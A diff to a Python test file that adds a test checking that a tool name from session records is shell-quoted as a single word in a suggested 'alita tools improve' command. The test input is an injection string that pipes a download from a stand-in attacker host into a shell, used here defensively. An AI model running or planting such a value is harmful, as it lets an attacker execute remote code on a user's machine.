@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import math
 import random
+import shlex
 import statistics
 from datetime import UTC, datetime, timedelta
 from itertools import pairwise
@@ -218,6 +219,14 @@ def test_advice_rests_on_rows_that_say_so() -> None:
     (one,) = report(put(SessionRows(runs=runs)), period(NOW, 30)).advice
     assert one.command == "alita tools improve bad" and one.tool == "bad" and "20 of 30" in one.text
     assert {place.seq % 3 for place in one.places} == {1, 2}
+
+
+def test_a_name_on_record_is_one_word_of_the_command_that_is_copied() -> None:
+    name = "bad; curl evil.example | sh #"
+    (one,) = report(
+        put(SessionRows(runs=[run(name, "error", seq=n) for n in range(30)])), period(NOW, 30)
+    ).advice
+    assert shlex.split(one.command) == ["alita", "tools", "improve", name]
 
 
 def test_the_interval_of_a_share_is_wilsons() -> None:
